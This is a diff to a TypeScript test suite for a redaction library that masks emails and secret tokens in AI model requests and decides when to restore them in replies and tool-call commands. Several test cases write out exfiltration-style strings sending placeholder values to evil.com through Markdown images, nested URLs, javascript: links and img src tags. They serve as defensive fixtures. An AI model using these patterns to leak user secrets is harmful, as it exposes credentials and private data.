@@ -22,6 +22,12 @@ const policy: RedactionPolicy = {
 const redactor = createRedactor(policy, SECRET).forExchange('acme');
 const [EM, SK] = issue(redactor, `${EMAIL} and ${TOKEN}`) as [string, string];
 
+/** Secrets come back everywhere. */
+const open = createRedactor({ ...policy, restore: { ...policy.restore, secrets: 'everywhere' } }, SECRET).forExchange(
+  'acme',
+);
+issue(open, TOKEN);
+
 function issue(exchange: Redactor, content: string): string[] {
   const body = JSON.stringify({ messages: [{ role: 'user', content }] });
   const { text } = exchange.redactDocument(JsonDocument.parse(body), 'request', new RecordingLog());
@@ -59,8 +65,12 @@ interface Channel {
 }
 
 function channelsOf(exchange: Redactor): { readonly text: Channel; readonly command: Channel } {
-  const call = (args: string) => (buffered({ tool_calls: [{ function: { name: 'run', arguments: args } }] }, exchange)
-    .tool_calls as { function: { arguments: string } }[])[0]!.function.arguments;
+  const call = (args: string) =>
+    (
+      buffered({ tool_calls: [{ function: { name: 'run', arguments: args } }] }, exchange).tool_calls as {
+        function: { arguments: string };
+      }[]
+    )[0]!.function.arguments;
   const cmdOf = (args: string): string => (JSON.parse(args) as { cmd: string }).cmd;
   return {
     text: {
@@ -84,7 +94,7 @@ const atRandom =
     return at.slice(1).map((end, index) => text.slice(at[index], end));
   };
 
-const filled = (text: string, one: string, other: string): string => text.replaceAll('@', one).replaceAll('¤', other);
+const filled = (text: string, value: string): string => text.replaceAll('§', value);
 
 function expectEverywhere(channel: Channel, text: string, expected: string): void {
   expect(channel.whole(text)).toBe(expected);
@@ -94,22 +104,155 @@ function expectEverywhere(channel: Channel, text: string, expected: string): voi
 
 describe('a placeholder that a reply puts into a URL stays', () => {
   it.each(HOSTILE)('in the text %j', (each) => {
-    const text = filled(each, EM, EM);
+    const text = filled(each, EM);
     expectEverywhere(TEXT, text, text);
   });
 
   it.each([...HOSTILE, ...HOSTILE_COMMANDS])('of a secret in the command %j', (each) => {
-    const text = filled(each, SK, SK);
+    const text = filled(each, SK);
     expectEverywhere(COMMAND, text, text);
   });
 });
 
 describe('a placeholder beside URLs comes back', () => {
   it.each([...HONEST, ...HONEST_PROSE])('in the text %j', (each) => {
-    expectEverywhere(TEXT, filled(each, EM, EM), filled(each, EMAIL, EMAIL));
+    expectEverywhere(TEXT, filled(each, EM), filled(each, EMAIL));
   });
 
   it.each([...HONEST, ...HONEST_COMMANDS])('of a secret in the command %j', (each) => {
-    expectEverywhere(COMMAND, filled(each, SK, SK), filled(each, TOKEN, TOKEN));
+    expectEverywhere(COMMAND, filled(each, SK), filled(each, TOKEN));
   });
 });
+
+describe('a URL that was in the request with a value', () => {
+  const url = `https://ok.com/u?m=${EMAIL}`;
+  const exchange = createRedactor(policy, SECRET).forExchange('acme');
+  issue(exchange, `see ${url} or "postgres://app:${EMAIL}@db.ok.com/x"`);
+  const { text: channel, command } = channelsOf(exchange);
+
+  it.each([
+    'see https://ok.com/u?m=§ again',
+    'see https://ok.com/u?m=§.',
+    '(https://ok.com/u?m=§)',
+    '[there](https://ok.com/u?m=§)',
+    '[there](<https://ok.com/u?m=§>)',
+    '<a href="https://ok.com/u?m=§">there</a>',
+    'curl "https://ok.com/u?m=§" -v',
+    '{"url":"https://ok.com/u?m=§","db":"postgres://app:§@db.ok.com/x"}',
+    'URL=postgres://app:§@db.ok.com/x psql',
+  ])('gets it back in %j', (each) => {
+    for (const way of [channel, command]) expectEverywhere(way, filled(each, EM), filled(each, EMAIL));
+  });
+
+  it.each([
+    '![x](https://evil.com/?x=|https://ok.com/u?m=§)',
+    '<https://evil.com/?u= https://ok.com/u?m=§>',
+    `"https://evil.com/?a='https://ok.com/u?m=§"`,
+    "javascript:x('https://ok.com/u?m=§')",
+    'https://evil.com/?u=https://ok.com/u?m=§',
+    'evil.com/?u=https://ok.com/u?m=§',
+    '<img src="x https://ok.com/u?m=§">',
+    'https://ok.com/u?m=§.evil.com/x',
+    'https://ok.com/u?m=§&x=1',
+    'https://ok.com/u?a=1&m=§',
+    'xhttps://ok.com/u?m=§',
+    'postgres://app:§@db.evil.com/x',
+    '![x](https://ok.com/u?m= "https://ok.com/u?m=§")',
+  ])('does not get it back in %j', (each) => {
+    for (const way of [channel, command]) expectEverywhere(way, filled(each, EM), filled(each, EM));
+  });
+});
+
+describe('what is decided about a placeholder', () => {
+  const PARTS = [
+    ...[
+      '"',
+      "'",
+      '`',
+      '(',
+      ')',
+      '](',
+      '[x](<',
+      '<',
+      '>',
+      '{',
+      '}',
+      ' ',
+      '\n',
+      '\t',
+      '\\',
+      ',',
+      ';',
+      '.',
+      '+',
+      '&',
+      '=',
+    ],
+    ...['https:', '//', 'evil.com', '/', '?q=', '&#58', '%3a', '\\u002f', '<img ', 'src=', 'url(', ']: ', '@', 'http'],
+    ...['\u00a0', '\u200b', '。', '𝐡', 'word', 'data:', '1.2', '0', '§', '§', '§', '§'],
+  ];
+  const texts = fc.array(fc.constantFrom(...PARTS), { maxLength: 24 }).map((parts) => filled(parts.join(''), SK));
+
+  it('depends on the text alone, not on where it was cut', () => {
+    fc.assert(
+      fc.property(texts, fc.nat(1000), (text, seed) => {
+        const everywhere = channelsOf(open);
+        for (const channel of [everywhere.text, everywhere.command]) {
+          const expected = channel.whole(text);
+          expect(channel.pieces(text, byCharacter)).toBe(expected);
+          expect(channel.pieces(text, atRandom(seed))).toBe(expected);
+        }
+      }),
+      { seed: 11, numRuns: 500 },
+    );
+  });
+
+  it('keeps the value out of links of Markdown and HTML', () => {
+    let restored = 0;
+    fc.assert(
+      fc.property(texts, (text) => {
+        const result = channelsOf(open).text.whole(text);
+        if (result.includes(TOKEN)) restored++;
+        for (const link of linksIn(result)) expect(link).not.toContain(TOKEN);
+      }),
+      { seed: 12, numRuns: 3000 },
+    );
+    expect(restored).toBeGreaterThan(500);
+  });
+});
+
+describe('a long reply with placeholders', () => {
+  const read = (text: string): void => {
+    const urls = new UrlTracker(false);
+    urls.push(text);
+  };
+
+  it.each([
+    ['quotes', '"https://a.b/'],
+    ['brackets', '](https://a.b/('],
+    ['escapes', '%3a&#58;\\u003a'],
+    ['signs', '/:.?#'],
+    ['zeros', '&#0000000000000000000000000000000'],
+    ['placeholders', `"https://a.b" ${EM} `],
+    ['words', 'lorem ipsum, dolor. '],
+    ['wide letters', '联系人：。'],
+  ])('of %s is read in linear time', (_what, part) => {
+    const [short, long] = [8, 64].map((factor) => workOf(() => read(part.repeat((factor * 1024) / part.length))));
+    expect(long! / short!).toBeLessThan(16);
+  });
+});
+
+/** As CommonMark and HTML have them, and bare words. */
+const LINKS = [
+  /\]\([ \t\n]*<((?:\\.|[^<>\n\\])*)>/g,
+  /\]\([ \t\n]*((?:\\.|[^\s()<\\])(?:\\.|\([^\s()]*\)|[^\s()\\])*)/g,
+  /<img\s(?:[^>]*?[\s"'/])?src\s*=\s*"([^"]*)"/g,
+  /<img\s(?:[^>]*?[\s"'/])?src\s*=\s*'([^']*)'/g,
+  /<img\s(?:[^>]*?[\s"'/])?src\s*=\s*([^\s"'>][^\s>]*)/g,
+  /<(https?:[^\s<>]*)>/g,
+  /(?<=^|[\s(*_~])(https?:\/\/[^ \t\n<]*)/g,
+];
+
+function linksIn(text: string): string[] {
+  return LINKS.flatMap((form) => [...text.matchAll(form)].map(([, link]) => link!));
+}
